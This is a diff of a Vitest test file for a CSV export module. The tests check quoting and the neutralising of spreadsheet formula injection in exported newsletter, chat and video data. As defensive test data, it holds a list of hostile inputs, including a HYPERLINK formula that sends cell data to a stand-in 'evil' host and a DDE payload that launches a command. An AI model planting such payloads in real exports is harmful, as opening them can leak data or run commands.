@@ -1,33 +1,145 @@
 import { describe, expect, it } from 'vitest';
 import { chatCsv, csvFileName, neutraliseFormula, newsletterCsv, toCsv, videoCsv } from '../../src/lib/csv';
+import type { ChatConversation, VideoConversation } from '../../src/lib/schemas/conversation';
+
+/**
+ * How a spreadsheet reads a CSV file with a given separator (Excel and LibreOffice with Spain's settings split
+ * on `;`, elsewhere on `,`): a double quote anywhere opens or closes quoting, a doubled quote inside quotes is
+ * one quote, and outside quotes the separator starts a cell and a line break a row. Lenient on purpose: a file
+ * written for `,` and read with `;` is not valid CSV for that separator, and this is how spreadsheets cope.
+ */
+function spreadsheetCells(csv: string, separator: ',' | ';'): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < csv.length; i += 1) {
+    const char = csv[i]!;
+    if (char === '"') {
+      if (quoted && csv[i + 1] === '"') {
+        cell += '"';
+        i += 1;
+      } else quoted = !quoted;
+    } else if (!quoted && char === separator) {
+      row.push(cell);
+      cell = '';
+    } else if (!quoted && (char === '\n' || char === '\r')) {
+      if (char === '\r' && csv[i + 1] === '\n') i += 1;
+      row.push(cell);
+      rows.push(row);
+      row = [];
+      cell = '';
+    } else cell += char;
+  }
+  if (cell || row.length) rows.push([...row, cell]);
+  return rows;
+}
+
+/** A cell a spreadsheet would run: after what it skips, = + - @ (or their full-width forms), not behind a '. */
+function runsFormula(cell: string): boolean {
+  if (cell.startsWith("'")) return false;
+  // eslint-disable-next-line no-control-regex
+  return /^[\s\u0000-\u001f\u007f-\u009f\u200b-\u200d\u2060]*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell);
+}
+
+/** What a visitor might type into a name, a chat message or a video transcript. */
+const HOSTILE = [
+  '=1+1',
+  '+1',
+  '-1',
+  '@SUM(A1)',
+  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+  "=cmd|' /C calc'!A0",
+  ' =1+1',
+  '   @SUM(A1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '\r\n+1',
+  '\0=1+1',
+  '\u00a0=1+1',
+  '\u3000=1+1',
+  '\ufeff=1+1',
+  '\u200b=1+1',
+  '\u0001-1',
+  '\uff1d1+1',
+  'Ana;=1+1',
+  'Ana,=1+1',
+  'Ana; =1+1',
+  'Ana;\t@SUM(A1)',
+  'Ana";=1+1',
+  '";=1+1;"',
+  '""";=1+1',
+  'Ana\r\n=1+1',
+  'Ana\n;=1+1',
+  ';=1+1',
+  ',=1+1',
+  '"=1+1"',
+];
+
+function chat(content: string): ChatConversation {
+  return {
+    sessionId: content,
+    language: 'es',
+    conversationStarted: '2026-01-01T10:00:00.000Z',
+    lastActivity: '2026-01-01T10:00:00.000Z',
+    messageCount: 1,
+    messages: [{ role: 'user', content, timestamp: '2026-01-01T10:00:00.000Z' }],
+  } as unknown as ChatConversation;
+}
+
+function video(text: string): VideoConversation {
+  return {
+    sessionId: text,
+    language: 'es',
+    conversationStarted: '2026-01-01T10:00:00.000Z',
+    conversationEnded: null,
+    duration: null,
+    conversationUrl: text,
+    transcript: [{ speaker: text, text, timestamp: text }],
+  } as unknown as VideoConversation;
+}
 
 describe('CSV', () => {
-  it('quotes per RFC 4180 with CRLF line ends', () => {
+  it('quotes every field, per RFC 4180 with CRLF line ends', () => {
     expect(
       toCsv(
         ['a', 'b'],
         [
           ['plain', 'has, comma'],
           ['has "quote"', 'two\nlines'],
+          ['', null],
+          [42, 'x'],
         ],
       ),
-    ).toBe('a,b\r\nplain,"has, comma"\r\n"has ""quote""","two\nlines"\r\n');
+    ).toBe('"a","b"\r\n"plain","has, comma"\r\n"has ""quote""","two\nlines"\r\n"",""\r\n"42","x"\r\n');
   });
 
   it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '\0x'])('neutralises a formula cell starting %j', (cell) => {
     expect(neutraliseFormula(cell)).toBe(`'${cell}`);
   });
 
+  it.each([' =1+1', '  +1', '\t=1', '\r\n@SUM(A1)', '\n-1', '\u00a0=1', '\u3000@x', '\ufeff=1', '\u200b=1', '\uff1d1'])(
+    'neutralises a formula behind leading whitespace or control characters: %j',
+    (cell) => {
+      expect(neutraliseFormula(cell)).toBe(`'${cell}`);
+    },
+  );
+
   it('leaves ordinary text alone', () => {
-    expect(neutraliseFormula('María = owner')).toBe('María = owner');
+    for (const cell of ['María = owner', 'hello', ' hello', '5-3', 'a@b.c', '', '¿Qué tal?']) {
+      expect(neutraliseFormula(cell)).toBe(cell);
+    }
   });
 
-  it('writes the exact columns of docs/product.md, "CSV exports"', () => {
-    expect(newsletterCsv([]).split('\r\n')[0]).toBe('Full Name,Email,Registration Date');
+  it('writes the exact columns of docs/product.md, "CSV exports", in order', () => {
+    expect(newsletterCsv([]).split('\r\n')[0]).toBe('"Full Name","Email","Registration Date"');
     expect(chatCsv([]).split('\r\n')[0]).toBe(
-      'Session ID,Message Role,Message Content,Timestamp,Language,Started,Message Count',
+      '"Session ID","Message Role","Message Content","Timestamp","Language","Started","Message Count"',
     );
-    expect(videoCsv([]).split('\r\n')[0]).toBe('Session ID,Speaker,Text,Timestamp,Language,Started,Duration,URL');
+    expect(videoCsv([]).split('\r\n')[0]).toBe(
+      '"Session ID","Speaker","Text","Timestamp","Language","Started","Duration","URL"',
+    );
     expect(csvFileName('newsletter-subscribers', new Date('2026-03-04T10:00:00Z'))).toBe(
       'newsletter-subscribers-2026-03-04.csv',
     );
@@ -37,6 +149,40 @@ describe('CSV', () => {
     const csv = newsletterCsv([
       { id: 'x', fullName: '=HYPERLINK("http://evil")', email: 'a@b.c', registrationDate: '2025-01-01T00:00:00.000Z' },
     ]);
-    expect(csv.split('\r\n')[1]).toBe(`"'=HYPERLINK(""http://evil"")",a@b.c,2025-01-01T00:00:00.000Z`);
+    expect(csv.split('\r\n')[1]).toBe(`"'=HYPERLINK(""http://evil"")","a@b.c","2025-01-01T00:00:00.000Z"`);
+  });
+
+  it('reads back, with a comma separator, exactly the values written (plus the apostrophe on formulas)', () => {
+    const csv = newsletterCsv(
+      HOSTILE.map((value, i) => ({ id: String(i), fullName: value, email: value, registrationDate: value })),
+    );
+    const rows = spreadsheetCells(csv, ',').slice(1);
+    expect(rows).toEqual(HOSTILE.map((value) => Array(3).fill(neutraliseFormula(value))));
+  });
+
+  it.each([',', ';'] as const)(
+    'runs no formula whatever a visitor typed, in any column, when a spreadsheet splits on %j',
+    (separator) => {
+      const files = [
+        newsletterCsv(
+          HOSTILE.map((value, i) => ({ id: String(i), fullName: value, email: value, registrationDate: value })),
+        ),
+        chatCsv(HOSTILE.map(chat)),
+        videoCsv(HOSTILE.map(video)),
+      ];
+      for (const csv of files) {
+        const cells = spreadsheetCells(csv, separator).flat();
+        expect(cells.length).toBeGreaterThan(HOSTILE.length);
+        expect(cells.filter(runsFormula)).toEqual([]);
+      }
+    },
+  );
+
+  it('puts every visitor value inside quotes, so a `;` never splits a line', () => {
+    const csv = chatCsv(HOSTILE.map(chat));
+    // With `;` as the separator, each line (a quoted field can hold a line break) stays one cell.
+    const rows = spreadsheetCells(csv, ';');
+    expect(rows.every((row) => row.length === 1)).toBe(true);
+    expect(rows).toHaveLength(HOSTILE.length + 1);
   });
 });
